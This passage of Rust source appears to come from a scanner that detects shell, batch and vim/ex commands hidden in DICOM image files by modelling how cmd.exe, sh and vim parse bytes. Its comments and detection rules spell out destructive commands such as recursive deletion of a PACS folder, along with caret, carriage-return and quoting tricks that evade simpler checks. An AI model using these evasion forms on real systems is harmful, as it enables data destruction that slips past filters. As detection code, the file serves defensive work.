        .any(|word| takes_switch(tool, word))
}

/// The words of `after` (what follows `tool`'s name) that `tool` reads a switch from,
/// every argument to the line's end as cmd.exe hands it over, in text and binary values
/// alike (issue 10, session 34: binary values read the first three as written, so
/// `rd C:\PACS ^/s ^/q` or a switch past the third argument walked around the rule
/// where cmd.exe runs a file extracted from the value): its carets dropped outside
/// quotes (`^/s`, `/^s`); for a program that parses its own command line with the C
/// runtime's rules, its quotes removed (`"-xf"` is `-xf`: Microsoft's "Parsing C
/// command-line arguments"); for cmd.exe's own commands ([`CMD_BUILTINS`]) a quoted
/// word is a name, not a switch (`rd "x" "/s"` removes a folder named `/s`: Wine's
/// cmd, whose built-ins take a switch only from an argument whose raw text starts with
/// `/`, and collect switches outside quotes only); and for a tool of slashes a `/`
/// after a path starting a switch (`C:\PACS/s/q`, [`joined_switch_starts`]; in binary
/// values, `chance_bytes`, a path of ASCII only, the evidence invariant 11 asks for
/// there).
///
/// Every word of the line as cmd.exe reads it, its carriage returns deleted
/// ([`CmdLine`]), as cmd.exe passes them all. Session 37 tried reading only the first
/// word of each line a deleted CR joined (against a false alarm on report prose whose
/// only line ends are CRs, `Gallbladder & CMD within normal limits.<CR>Sedation:
/// midazolam 0.05 mg /kg IV.<CR>`); review rv37-screen hid every switch behind it with
/// one CR (`rd C:\PA<CR>CS /s /q`), so it was taken out and that false alarm is open.
fn switch_words(tool: &[u8], after: &[u8], chance_bytes: bool) -> Vec<Vec<u8>> {
    let slash = BATCH_SWITCHES
        .iter()
        .any(|&(name, style, _)| name == tool && matches!(style, SwitchStyle::Slash));
    let unquoted = !CMD_BUILTINS.contains(&tool);
    let line = without_carets(after);
    let mut words = Vec::new();
    for argument in leading_arguments(&line, chance_bytes) {
        if unquoted && argument.contains(&b'"') {
            words.push(argument.iter().copied().filter(|&b| b != b'"').collect());
        } else {
            words.push(argument.to_vec());
        }
        if slash {
            words.extend(
                joined_switch_starts(argument, chance_bytes).map(|at| argument[at..].to_vec()),
            );
        }
    }
    words
}

/// The tools of [`BATCH_SWITCHES`] that are cmd.exe's own commands: cmd.exe reads their
/// switches itself (outside quotes only), where any other program reads its own command
/// line with the C runtime's rules (quotes removed).
const CMD_BUILTINS: [&[u8]; 5] = [b"del", b"erase", b"rd", b"rmdir", b"start"];

/// Where a switch joined to the word before it starts in `argument` (`C:\PACS/s/q`,
/// `*.dcm/q`): at a `/` outside quotes whose part before it names a path, a `\`, a
/// wildcard, a variable's `%` or a drive (`C:`). In any other word the `/` is prose's:
/// units and abbreviations (`ml/s`, `s/p`, `coronal/axial`, `mg/d`), dates, a URL's
/// path, a quoted `"/Annots"` (review rv2-screen: each was a switch, an alert on
/// report text).
fn joined_switch_starts(argument: &[u8], chance_bytes: bool) -> impl Iterator<Item = usize> + '_ {
    let mut quoted = false;
    argument.iter().enumerate().filter_map(move |(at, &b)| {
        if b == b'"' {
            quoted = !quoted;
        }
        (b == b'/' && !quoted && names_a_path(&argument[..at], chance_bytes)).then_some(at)
    })
}

/// Whether `word` (a part of an argument before a `/`) holds what only a path holds
/// in prose: a `\`, a wildcard, a `%` of a variable, or a drive letter and its colon.
/// In text any byte may sit in it: cmd.exe reads the `/` after it as a switch's start
/// whatever the path holds, and Windows normalises a path before it looks at its names
/// (`C:\PACS\\x01\..` is `C:\PACS`; session 35: a control byte hid the switch). In
/// binary values (`chance_bytes`) only printable ASCII: a byte past it is a letter of
/// the console's code page in text, but half of all chance bytes, and a `/` inside a
/// word of them was over the chance budget of invariant 11 (2.5e-8 a window with them,
/// measured by
/// `every_argument_read_as_cmd_reads_it_keeps_the_ambiguous_tool_rule_within_its_budget`).
fn names_a_path(word: &[u8], chance_bytes: bool) -> bool {
    let drive = matches!(word, [letter, b':', ..] if letter.is_ascii_alphabetic())
        || matches!(word, [b'"', letter, b':', ..] if letter.is_ascii_alphabetic());
    let path_byte = |b: u8| !chance_bytes || (0x20..0x7F).contains(&b);
    word.iter().all(|&b| path_byte(b))
        && (drive || word.iter().any(|b| matches!(b, b'\\' | b'*' | b'%')))
}

/// `rest` to its line's end as cmd.exe reads it: a caret outside quotes escapes the
/// byte after it and is dropped (`^/s` is `/s`, `^^` a caret). An escaped operator or
/// redirection (`^>`, `^&`) is a byte of an argument to cmd.exe, not the end of the
/// arguments nor a redirection: it is read as [`ESCAPED_OPERATOR`], which neither ends
/// a word nor starts one (session 35: `rd C:\x ^> /s` ended at the `>`).
fn without_carets(rest: &[u8]) -> Vec<u8> {
    // To the command's end as cmd.exe reads it: the line's end (a Ctrl-Z too) or an
    // operator outside quotes and not escaped, and no more than it reads of a line (review
    // rv36-screen: read to the next line feed, each of the commands of a line of
    // `<Ctrl-Z>rd x` or `&rd x` repeated copied the rest of it, quadratic).
    let line = &rest[..rest.len().min(CMD_LINE_LIMIT)];
    let mut read = Vec::with_capacity(command_len(line) + 1);
    let mut quoted = false;
    let mut escaped = false;
    let mut after_redirection = false;
    for &b in line {
        // cmd.exe deleted every CR before it read the line (a view holds one only before
        // a line feed, a caret's continuation among them: `^<CR><LF>`).
        if b == b'\r' {
            continue;
        }
        // A caret last on a line joins the next, whose first byte is taken as written
        // (`rd C:\PACS ^<LF>/s /q`: the switches are rd's).
        if is_line_feed(b) && escaped {
            continue;
        }
        // `>&1`, `<&0`: the `&` of a handle's redirection is no operator.
        let duplicates_handle = std::mem::replace(
            &mut after_redirection,
            matches!(b, b'<' | b'>') && !quoted && !escaped,
        );
        match b {
            b'\n' | CTRL_Z => break,
            b'|' if !quoted && !escaped => break,
            b'&' if !quoted && !escaped && !duplicates_handle => break,
            _ if escaped => {
                let operator = matches!(b, b'<' | b'>' | b'&' | b'|');
                read.push(if operator { ESCAPED_OPERATOR } else { b });
                escaped = false;
            }
            b'^' if !quoted => escaped = true,
            b'"' => {
                quoted = !quoted;
                read.push(b);
            }
            _ => read.push(b),
        }
    }
    read
}

/// The first word of `rest`, past cmd.exe's delimiters: to the next delimiter, the
/// line's end, an operator or a redirection. The first argument as r31 read it: the
/// baseline of the chance measure.
#[cfg(test)]
fn first_argument(rest: &[u8]) -> &[u8] {
    let rest = &rest[rest
        .iter()
        .position(|&b| !is_token_delimiter(b))
        .unwrap_or(rest.len())..];
    let end = rest
        .iter()
        .position(|&b| ends_word(b))
        .unwrap_or(rest.len());
    &rest[..end]
}

/// What [`without_carets`] reads an escaped operator as: a control byte that is no
/// operator, delimiter or quote to the readers of arguments, and no switch or path.
const ESCAPED_OPERATOR: u8 = 0x00;

/// The arguments in `rest` as cmd.exe splits them: at its
/// delimiters outside quotes (`"C:\Program Files\x" /s` is two), ending at the line's end
/// (a Ctrl-Z too, which cmd.exe reads as one) and, outside quotes, at an operator (what
/// follows is another command). A redirection ends the word it is glued to and is taken
/// out with its file's name, wherever it stands ([`redirection_len`]): cmd.exe hands the
/// program the rest (session 35: `rd >nul C:\x /s` and `del 2>nul /q C:\y` ended at the
/// `>`). In binary values (`chance_bytes`) a redirection is taken out only when its file
/// is named in printable ASCII, as [`names_a_path`] asks there: chance bytes past a `>`
/// otherwise lengthened the lines read for a switch beyond the chance budget of
/// invariant 11 (2.13e-8 a window, measured by
/// `every_argument_read_as_cmd_reads_it_keeps_the_ambiguous_tool_rule_within_its_budget`);
/// any other ends the arguments there, as before. A quote never carries an argument past
/// a line's end: each is read within its line.
fn leading_arguments(rest: &[u8], chance_bytes: bool) -> impl Iterator<Item = &[u8]> {
    leading_argument_spans(rest, chance_bytes).map(move |span| &rest[span])
}

/// [`leading_arguments`] as a program that splits its command line at blanks only reads
/// them (shutdown.exe, and copy's own reader): words cmd.exe's delimiters `;`, `,` and
/// `=` part with no blank between them are one (`reason=patch`, `Patch,now`).
fn blank_words(rest: &[u8], chance_bytes: bool) -> Vec<&[u8]> {
    let mut words: Vec<Range<usize>> = Vec::new();
    for span in leading_argument_spans(rest, chance_bytes) {
        match words.last_mut() {
            Some(last)
                if rest[last.end..span.start]
                    .iter()
                    .all(|&b| is_token_delimiter(b) && !matches!(b, b' ' | b'\t')) =>
            {
                last.end = span.end;
            }
            _ => words.push(span),
        }
    }
    words.into_iter().map(|span| &rest[span]).collect()
}

/// Where each of [`leading_arguments`] stands in `rest`.
fn leading_argument_spans(rest: &[u8], chance_bytes: bool) -> impl Iterator<Item = Range<usize>> {
    let mut from = 0;
    std::iter::from_fn(move || {
        let blanks = |from: usize| rest[from..].iter().position(|&b| !is_token_delimiter(b));
        let mut start = from + blanks(from)?;
        // Each redirection taken out moves forward: linear over the line.
        while let Some(len) = redirection_len(&rest[start..], chance_bytes) {
            from = start + len;
            start = from + blanks(from)?;
        }
        let word = &rest[start..];
        let mut quoted = false;
        let end = word
            .iter()
            .position(|&b| {
                if b == b'"' {
                    quoted = !quoted;
                }
                // A CR (one cmd.exe deleted, left only before a line feed) ends no
                // quoted word (review of session 37, A3: `"a&b<CR>" /c x`).
                matches!(b, b'\n' | CTRL_Z)
                    || (!quoted
                        && (is_token_delimiter(b)
                            || matches!(b, b'\r' | b'&' | b'|' | b'<' | b'>')))
            })
            .unwrap_or(word.len());
        from = start + end;
        (end > 0).then_some(start..from)
    })
}

/// The length of the redirection cmd.exe reads at the start of `bytes`, its file's name
/// included, or `None` when none starts there: a stream's digit or not (`2>nul`: a
/// digit a word starts with, as cmd.exe reads one only after a delimiter), then `>`,
/// `>>` or `<`, then `&` and a stream's digit (`2>&1`, `>&2`, `<&0`: no file), or past
/// delimiters the file's name (`> nul`), a word whose quotes keep blanks in it
/// (`>>"a b.log"`), ending where an argument ends. Every form cmd.exe accepts, before the
/// program or among its arguments (its parser takes each out of the line before it
/// splits the arguments). In binary values (`chance_bytes`) a file's name must be
/// printable ASCII, not empty (see [`leading_arguments`]).
fn redirection_len(bytes: &[u8], chance_bytes: bool) -> Option<usize> {
    let mut at = usize::from(bytes.first().is_some_and(u8::is_ascii_digit));
    match bytes.get(at)? {
        b'>' => {
            at += if bytes.get(at + 1) == Some(&b'>') {
                2
            } else {
                1
            }
        }
        b'<' => at += 1,
        _ => return None,
    }
    if bytes.get(at) == Some(&b'&') {
        return Some(at + 1 + usize::from(bytes.get(at + 1).is_some_and(u8::is_ascii_digit)));
    }
    at += bytes[at..]
        .iter()
        .take_while(|&&b| is_token_delimiter(b))
        .count();
    let mut quoted = false;
    let name = bytes[at..]
        .iter()
        .position(|&b| {
            if b == b'"' {
                quoted = !quoted;
            }
            matches!(b, b'\r' | b'\n' | CTRL_Z)
                || (!quoted && (is_token_delimiter(b) || matches!(b, b'&' | b'|' | b'<' | b'>')))
        })
        .unwrap_or(bytes.len() - at);
    let file = &bytes[at..at + name];
    let named =
        !chance_bytes || (!file.is_empty() && file.iter().all(|b| (0x20..0x7F).contains(b)));
    named.then_some(at + name)
}

/// Whether `token` names a program or a URL: `evil.exe`, `x.hta`, `http://…`.
fn names_program_or_url(token: &[u8]) -> bool {
    let lower: Vec<u8> = token.to_ascii_lowercase();
    let program = [
        ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".scr", ".lnk",
    ]
    .iter()
    .any(|ext| lower.ends_with(ext.as_bytes()));
    program || lower.starts_with(b"http://") || lower.starts_with(b"https://")
}

/// Whether `token` is a switch `tool` takes, written in its style ([`BATCH_SWITCHES`]):
/// `/s`, `/S/Q`, `/w:c:\`, `/ccalc`; `-xzf`, `-s:cmds.txt`, `--exec`.
fn takes_switch(tool: &[u8], token: &[u8]) -> bool {
    let Some(&(_, style, names)) = BATCH_SWITCHES.iter().find(|(name, _, _)| *name == tool) else {
        return false;
    };
    match style {
        SwitchStyle::Slash => {
            // `/s/q`: every part a switch; the first part ends the word when it takes
            // the rest (`/c/x` is `/c` running `/x`).
            let Some(parts) = token.strip_prefix(b"/") else {
                return false;
            };
            let mut rest = parts;
            loop {
                let end = memchr::memchr(b'/', rest).unwrap_or(rest.len());
                match slash_switch(names, &rest[..end]) {
                    None => return false,
                    Some(true) => return true,
                    Some(false) if end == rest.len() => return true,
                    Some(false) => rest = &rest[end + 1..],
                }
            }
        }
        SwitchStyle::Prefix => {
            let Some(name) = [
                &b"-"[..],
                b"/",
                b"\xE2\x80\x93",
                b"\xE2\x80\x94",
                b"\xE2\x80\x95",
            ]
            .iter()
            .find_map(|dash| token.strip_prefix(*dash)) else {
                return false;
            };
            // `-c`, `-enc`, `-File:x.ps1`: a value may follow a colon.
            let name = &name[..memchr::memchr(b':', name).unwrap_or(name.len())];
            let name = name.to_ascii_lowercase();
            !name.is_empty() && names.iter().any(|full| full.starts_with(&name))
        }
        SwitchStyle::Dash => {
            if let Some(long) = token.strip_prefix(b"--") {
                let name = &long[..memchr::memchr(b'=', long).unwrap_or(long.len())];
                return name.len() > 1 && names.contains(&name);
            }
            let Some(letters) = token.strip_prefix(b"-") else {
                return false;
            };
            // `-xzf`: every letter one of the tool's; `-s:cmds.txt`: a value after `:`.
            let (letters, value) = match memchr::memchr(b':', letters) {
                Some(colon) => (&letters[..colon], true),
                None => (letters, false),
            };
            !letters.is_empty()
                && letters.iter().enumerate().all(|(i, letter)| {
                    let one = std::slice::from_ref(letter);
                    if value && i + 1 == letters.len() {
                        names
                            .iter()
                            .any(|name| name.len() == 2 && name[0] == *letter && name[1] == b':')
                    } else {
                        names.contains(&one)
                    }
                })
        }
    }
}

/// Whether `part` (a slash switch without its `/`) is one of `names`: `Some(true)` when
/// it takes the rest of the word (`c*`), `Some(false)` for any other, `None` for none.
fn slash_switch(names: &[&[u8]], part: &[u8]) -> Option<bool> {
    names.iter().find_map(|name| {
        if let Some(head) = name.strip_suffix(b"*") {
            let matched = part
                .get(..head.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(head));
            matched.then_some(true)
        } else if name.ends_with(b":") {
            let matched = part
                .get(..name.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(name));
            matched.then_some(false)
        } else {
            part.eq_ignore_ascii_case(name).then_some(false)
        }
    })
}

/// Whether `rest` (what follows a bare name of a runnable file) reads as a command's
/// argument rather than prose: a switch (`/s`, `-e`), a quoted argument (`setup.msi
/// "a"`), a program or a URL. The program is unknown, so are its switches: any letter.
fn command_like_argument(rest: &[u8]) -> bool {
    let rest = &rest[rest
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t'))
        .unwrap_or(rest.len())..];
    let token_end = rest
        .iter()
        .position(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
        .unwrap_or(rest.len());
    let token = &rest[..token_end];
    let switch =
        token.len() >= 2 && matches!(token[0], b'/' | b'-') && token[1].is_ascii_alphabetic();
    let quoted = token.first() == Some(&b'"');
    switch || quoted || names_program_or_url(token)
}

/// A command a shell or `cmd.exe` would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Command {
    pub offset: usize,
    /// `shell`, `batch` or `powershell`.
    pub interpreter: &'static str,
    /// `Alert`: it runs. `Warning`: the model reached a limit and cannot tell, or (a
    /// bare name of a runnable file alone on its line in binary values, see
    /// [`find_batch_command_within`]) the bytes are as likely chance as a command.
    pub severity: Severity,
    /// What the finding is: `active-content` for a command (an alert, or a warning
    /// where chance bytes make it one), `not-inspected` for a limit reached.
    pub kind: FindingKind,
    pub detail: String,
}

/// The first command `sh` would run from `bytes`, if any (see [`crate::sh`] for the
/// model of dash's grammar). A script the model cannot follow to the end of one of its
/// limits is a `Warning` (it cannot tell), never taken as text.
pub fn find_shell_command(bytes: &[u8]) -> Option<Command> {
    find_shell_command_until(bytes, &Clock::default())
}

/// [`find_shell_command`] that stops at `clock`'s deadline: a warning naming it.
pub fn find_shell_command_until(bytes: &[u8], clock: &Clock) -> Option<Command> {
    let weak = |name: &[u8]| is_weak(name);
    let wrapper = sh::is_runner;
    let outcome =
        sh::first_command_until(bytes, &is_strong, &weak, &wrapper, sh::Context::FILE, clock)?;
    match outcome {
        sh::Outcome::Runs(at, effect) => Some(shell_command(bytes, at, effect)),
        sh::Outcome::CannotTell(at, sh::DEADLINE_REACHED) => Some(Command {
            offset: at,
            interpreter: "shell",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "text that sh would parse as a script, followed up to here when {}: what sh runs after it was not inspected",
                clock.reached()
            ),
        }),
        sh::Outcome::CannotTell(at, sh::UNJUDGED_PATTERN) => {
            // The command is named as written (its line, to a bound): the pattern the
            // model cannot match is in it.
            let line = &bytes[at.min(bytes.len())..];
            let line = &line[..line
                .iter()
                .position(|&b| b == b'\n')
                .unwrap_or(line.len())
                .min(UNJUDGED_COMMAND_QUOTED)];
            Some(Command {
                offset: at,
                interpreter: "shell",
                severity: Severity::Warning,
                kind: FindingKind::NotInspected,
                detail: format!(
                    "a signal sent with a pattern the shell model does not match (a group, alternation, braces, a GNU anchor, or {} bytes or more): whether it reaches init (PID 1) or every process was not inspected: {:?}",
                    sh::NAME_KEPT,
                    String::from_utf8_lossy(line)
                ),
            })
        }
        sh::Outcome::CannotTell(at, limit) => Some(Command {
            offset: at,
            interpreter: "shell",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "text that sh would parse as a script, followed up to {limit}, the limit of the shell model: what sh runs after it was not inspected"
            ),
        }),
    }
}

/// Bytes of a command quoted in the warning on a pattern the shell model does not match.
const UNJUDGED_COMMAND_QUOTED: usize = 120;

/// Whether `sh`, given a file that starts with `bytes`, would read on past them: they
/// hold no syntax error that ends it and no command it runs. A file read in windows is
/// modelled from its start only (the parse state at a later window is not known), so
/// its caller says the rest was not inspected for shell commands.
pub fn shell_reads_past(bytes: &[u8]) -> bool {
    let weak = |name: &[u8]| is_weak(name);
    let wrapper = sh::is_runner;
    sh::reads_past(bytes, &is_strong, &weak, &wrapper)
}

/// Bytes of `:!` lines (an escape inside a line) handed to the shell model per file. Each
/// candidate's line is modelled to its end, so a line of many `:!` would cost its length
/// squared without a cap. Lines that start with `!` do not overlap (they cost at most the
/// file's size once) and are not counted; `:!` inside a line of pixel data comes once per
/// 64 KiB, and its lines in 256 MiB of random bytes add up to ~1 MiB. Past it (or past
/// [`EX_MODELLED_PER_FILE_BYTE`] times the file's size, if that is more): a warning.
pub const MAX_EX_MODELLED_BYTES: usize = 16 * 1024 * 1024;

/// Bytes handed to the shell model per byte of the file, for a file large enough that
/// this is more than [`MAX_EX_MODELLED_BYTES`]: the cost stays linear in the file's size
/// (the cap is against lines of many `:!` costing their length squared), and a large
/// image is modelled whole. Its compressed pixel data holds `\nso` (`:source` of the
/// buffer) and `\na` (`:append` up to a line of one `.` that never comes) by chance, so
/// the buffer sourced is most of the file: a 64 MiB image (random bytes) went past a
/// fixed 16 MiB and got a `not-inspected` warning, and a refusing gateway route refused
/// it (session 23). Random bytes cost about one byte per byte of the file.
pub const EX_MODELLED_PER_FILE_BYTE: usize = 4;

/// A charge of at least this many bytes to [`Modelled`] reads the clock at once, not
/// once per [`crate::CLOCK_READ_EVERY`] charges.
const LONG_CHARGE_BYTES: usize = 4096;

/// The bytes handed to the shell model for one file so far, against its limit, and the
/// file's deadline: every unit of ex/vim work is charged here, so both stop it.
struct Modelled<'c> {
    bytes: usize,
    limit: usize,
    clock: &'c Clock,
}

impl Modelled<'_> {
    /// For a file of `len` bytes: [`MAX_EX_MODELLED_BYTES`], or
    /// [`EX_MODELLED_PER_FILE_BYTE`] times `len` if that is more; until `clock`'s deadline.
    fn for_file(len: usize, clock: &Clock) -> Modelled<'_> {
        Modelled {
            bytes: 0,
            limit: MAX_EX_MODELLED_BYTES.max(len.saturating_mul(EX_MODELLED_PER_FILE_BYTE)),
            clock,
        }
    }

    /// Counts `n` more bytes; whether the limit, or the deadline, is now passed. A long
    /// charge reads the clock at once: one `:!` in a line of many hands the shell model
    /// the rest of the line (ex.dcm, one 4 MiB line of `a:!`, ran 7.6 s past a 1 s
    /// gateway deadline in a debug build between two reads of the clock).
    fn charge(&mut self, n: usize) -> bool {
        self.bytes = self.bytes.saturating_add(n);
        let late = if n >= LONG_CHARGE_BYTES {
            self.clock.expired_now()
        } else {
            self.clock.expired()
        };
        self.bytes > self.limit || late
    }

    /// What stopped the model, once [`Modelled::charge`] said so: `what` was modelled up
    /// to the limit (named), or up to the deadline.
    fn spent(&self, what: &str) -> String {
        if self.bytes > self.limit {
            format!(
                "more than {} bytes of {what} (MAX_EX_MODELLED_BYTES, or EX_MODELLED_PER_FILE_BYTE times the file's size): the rest were not checked",
                self.limit
            )
        } else {
            format!(
                "{what} read up to here when {}: the rest were not checked",
                self.clock.reached()
            )
        }
    }
}

/// The first `!command` that `ex`/`vi` or `ed` would hand to the shell, if the file were
/// fed to them as commands: `ex -s < file`, `vim -es < file`, `ed < file`, `vi -s file`.
///
/// Nothing opens a DICOM file this way on its own: like `sh file.dcm`, it takes someone
/// (or a script of the attacker's) naming the file as commands. It is screened like the
/// shell for that reason, and because what runs is a shell command line. vim in ex mode
/// reports an error for a line of garbage and goes on with the next (`vim -es` prints
/// nothing and runs a `!` line after binary lines: tests/real_readers.rs); GNU `ed` stops
/// at its first error, so there only a first line runs, which this search covers too.
/// A line that quits (`q`, `x…`) would stop vim before a later escape; that is not
/// modelled: an escape is reported wherever it is (more, never less).
/// Found: `!` at the start of a line (after blanks and `:`, which ex skips), and `:!`
/// anywhere (the keys `vi -s` types: `:` opens the command line wherever it is). The
/// rest of the line is what `sh -c` gets, judged by the shell model.
pub fn find_ex_command(bytes: &[u8]) -> Option<Command> {
    find_ex_command_until(bytes, &Clock::default())
}

/// [`find_ex_command`] that stops at `clock`'s deadline: a warning naming it.
pub fn find_ex_command_until(bytes: &[u8], clock: &Clock) -> Option<Command> {
    let weak = |name: &[u8]| is_weak(name);
    let wrapper = sh::is_runner;
    let mut modelled = Modelled::for_file(bytes.len(), clock);
    // Each phase below makes passes over the whole file: none starts past the deadline
    // (a file without a `!` reached the vim-string phase's twenty passes, 1.5 s in a
    // debug build, after the deadline; review r24-scan).
    if clock.expired_now() {
        // At the first escape the model would read (a warning at the sh model's offset
        // would be taken for that one).
        let first = memchr::memchr(b'!', bytes).unwrap_or(0);
        return Some(spent_warning(first, &modelled));
    }
    let vim_environment = vim_sets_environment(bytes);
    let vim_shell = vim_sets_shell(bytes);
    // Pixel data holds a `!` every ~30-70 bytes, most after a byte below any that can
    // end the forms below (a CT value's high byte): `pairs` skips those 64 bytes at a
    // time, and the rest are turned away in one look-up.
    let bangs = pairs::positions(
        bytes,
        Beside::Before,
        |b| b == b'!',
        |b| b >= LOWEST_EX_BEFORE_BANG,
    );
    for bang in bangs {
        if bang > 0 && !EX_BEFORE_BANG[usize::from(bytes[bang - 1])] {
            continue;
        }
        let Some(at_line_start) = ex_escape(bytes, bang) else {
            continue;
        };
        let rest = &bytes[bang + 1..];
        let line = &rest[..memchr::memchr(b'\n', rest).unwrap_or(rest.len())];
        // Lines from a line start do not overlap: at most the file once, not charged
        // (but each is a unit of work the deadline stops).
        if modelled.charge(if at_line_start { 0 } else { line.len() }) {
            return Some(Command {
                offset: bang,
                interpreter: "ex",
                severity: Severity::Warning,
                kind: FindingKind::NotInspected,
                detail: modelled.spent("ex/ed shell escapes"),
            });
        }
        if let Some(set) = vim_shell.filter(|&set| set < bang && is_command_text(line)) {
            return Some(Command {
                offset: bang,
                interpreter: "ex",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "an ex shell escape (\"{}\") after vim's 'shell' option is set (at offset {set}): vim hands the line to that program, whatever it is, when the file is fed to it as commands (vim -es < file)",
                    line_excerpt(bytes, bang)
                ),
            });
        }
        let context = ex_context(vim_environment, bang);
        if let Some(sh::Outcome::Runs(..)) =
            sh::first_command_until(line, &is_strong, &weak, &wrapper, context, clock)
        {
            return Some(Command {
                offset: bang,
                interpreter: "ex",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "an ex/ed shell escape (\"{}\") that vi, ex or ed runs when the file is fed to them as commands (ex -s < file, vi -s file, ed < file)",
                    line_excerpt(bytes, bang)
                ),
            });
        }
    }
    let mut found = None;
    let spent = normal_filters(bytes, Some(b'\n'), &mut modelled, &mut |at, command| {
        let context = ex_context(vim_environment, at);
        let runs = is_edited(command)
            || (vim_shell.is_some_and(|set| set < at) && is_command_text(command))
            || matches!(
                sh::first_command_until(command, &is_strong, &weak, &wrapper, context, clock),
                Some(sh::Outcome::Runs(..))
            );
        if runs {
            found = Some(Command {
                offset: at,
                interpreter: "ex",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "a `:normal` filter (\"{}\"): the `!{{motion}}` operator hands a shell command line to the shell when the file is fed to vim as commands (vim -es < file)",
                    line_excerpt(bytes, at)
                ),
            });
        }
        runs
    });
    if let Some(at) = spent {
        return Some(spent_warning(at, &modelled));
    }
    if found.is_some() {
        return found;
    }
    if clock.expired_now() {
        return Some(spent_warning(0, &modelled));
    }
    find_vim_string_command(bytes, vim_environment, vim_shell, &mut modelled)
}

/// The warning for a file whose ex/vim text went past its limit or its deadline
/// ([`Modelled`]).
fn spent_warning(at: usize, modelled: &Modelled<'_>) -> Command {
    Command {
        offset: at,
        interpreter: "ex",
        severity: Severity::Warning,
        kind: FindingKind::NotInspected,
        detail: modelled.spent("ex/ed shell escapes and vim strings"),
    }
}

/// Keys that change a command line as it is typed rather than add to it: Backspace
/// (`\<BS>`, `\b`, `\<C-H>`), Ctrl-R (inserts a register or, with `=`, an expression's
/// value), Ctrl-U, Ctrl-W, Delete, and the first byte of vim's special keys (`\<Del>`,
/// `\<Left>`, `\<Ignore>`, which [`vim_escape`] reads as 0x80). A filter's command line
/// holding one is not the text read here (vim -es ran `exe "norm! !!sx\<BS>h …\r"`,
/// review s15-r10): what it runs is known only then, and that is the alert.
const COMMAND_LINE_EDITING_KEYS: [u8; 6] = [0x08, 0x12, 0x15, 0x17, 0x7f, 0x80];

/// A command line as typed with its Ctrl-V and Ctrl-Q keys taken out: each inserts the
/// key after it as it is (`!gg\<C-V>sh -c …\r` runs `sh`: vim -es ran it, review
/// s15-r10).
fn typed_literally(command: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    if !command.iter().any(|b| matches!(b, 0x11 | 0x16)) {
        return command.into();
    }
    let mut typed = Vec::with_capacity(command.len());
    let mut literal = false;
    for &b in command {
        if !literal && matches!(b, 0x11 | 0x16) {
            literal = true;
            continue;
        }
        literal = false;
        typed.push(b);
    }
    typed.into()
}

/// Whether a `:normal` filter's command line holds a [`COMMAND_LINE_EDITING_KEYS`] key.
fn is_edited(command: &[u8]) -> bool {
    command
        .iter()
        .any(|b| COMMAND_LINE_EDITING_KEYS.contains(b))
}

/// The longest motion a normal-mode filter operator takes after its `!` and count that
/// is read here as keys typed before the command (`!ip`, `!gg`, `!a(`, `!'a`, `!fx`,
/// `!G`): vim's motions are one to three keys, except searches and `:` motions, which
/// end with an Enter key and are read up to it (`!/x\rsh …\r`).
const LONGEST_NORMAL_MOTION: usize = 3;

/// Finds the shell command lines that `:normal` commands in `text` hand to the shell
/// through the filter operator (`norm! !!cmd\r`, `norm! 3j!!cmd\r`, `norm! "a2!!cmd\r`,
/// `norm! !ipcmd\r`, `norm! !/x\rcmd\r`: vim -es ran each; issue 10, session 15), and
/// calls `judge` with each (its offset in `text`, the command line) until it returns
/// true. `:normal`'s keys run to `keys_end` (a line end in a file, none in an `:execute`
/// string); every `!` among them is taken for the operator (the keys before it are not
/// modelled: more, never less), and its command line ends at an Enter key (`\r` or
/// `\n`): without one vim abandons the command line and runs nothing. The bytes read
/// count towards `modelled`; past [`MAX_EX_MODELLED_BYTES`] the offset reached is
/// returned (the caller warns).
fn normal_filters(
    text: &[u8],
    keys_end: Option<u8>,
    modelled: &mut Modelled<'_>,
    judge: &mut dyn FnMut(usize, &[u8]) -> bool,
) -> Option<usize> {
    for at in crate::literals::find_iter(text, b"norm") {
        let Some(keys) = normal_keys(text, at, keys_end) else {
            continue;
        };
        let keys_at = keys.as_ptr() as usize - text.as_ptr() as usize;
        if modelled.charge(keys.len()) {
            return Some(keys_at);
        }
        // Where each Enter key is, found once: the command after each `!` ends at the
        // first one after its start. Looked for again after each `!`, a line of many
        // `!` and no Enter took minutes (its length squared; review s15-r10).
        let enters: Vec<usize> = memchr::memchr2_iter(b'\r', b'\n', keys).collect();
        let enter_from = |from: usize| {
            let next = enters.partition_point(|&enter| enter < from);
            enters.get(next).copied()
        };
        for bang in memchr::memchr_iter(b'!', keys) {
            let rest = &keys[bang + 1..];
            let mut starts = Vec::with_capacity(LONGEST_NORMAL_MOTION + 2);
            if rest.first() == Some(&b'!') {
                starts.push(1);
            } else {
                let count = rest.iter().take_while(|b| b.is_ascii_digit()).count();
                starts.extend((count..=count + LONGEST_NORMAL_MOTION).filter(|&s| s <= rest.len()));
                // A search or `:` motion ends with its own Enter.
                if let Some(enter) = enter_from(bang + 1) {
                    starts.push(enter - bang);
                }
            }
            for start in starts {
                let Some(enter) = enter_from(bang + 1 + start) else {
                    continue;
                };
                let command = &keys[bang + 1 + start..enter];
                if modelled.charge(command.len()) {
                    return Some(keys_at + bang);
                }
                if judge(keys_at + bang, &typed_literally(command)) {
                    return None;
                }
            }
        }
    }
    None
}

/// The keys of a `:normal` command whose name starts at `at` in `text` (`norm`…`normal`,
/// a `!` after it or not, then blanks), up to `keys_end`, if the name is a whole word
/// where an Ex command goes: at a line's start or after a `|` (blanks and colons before
/// it), or after a range or command modifiers (`%norm`, `sil norm`, `g/x/norm`).
fn normal_keys(text: &[u8], at: usize, keys_end: Option<u8>) -> Option<&[u8]> {
    if at > 0 && (text[at - 1].is_ascii_alphabetic() || text[at - 1] == b'_') {
        return None;
    }
    let len = text[at..]
        .iter()
        .take(7)
        .take_while(|b| b.is_ascii_lowercase())
        .count();
    if !(4..=6).contains(&len) || !b"normal".starts_with(&text[at..at + len]) {
        return None;
    }
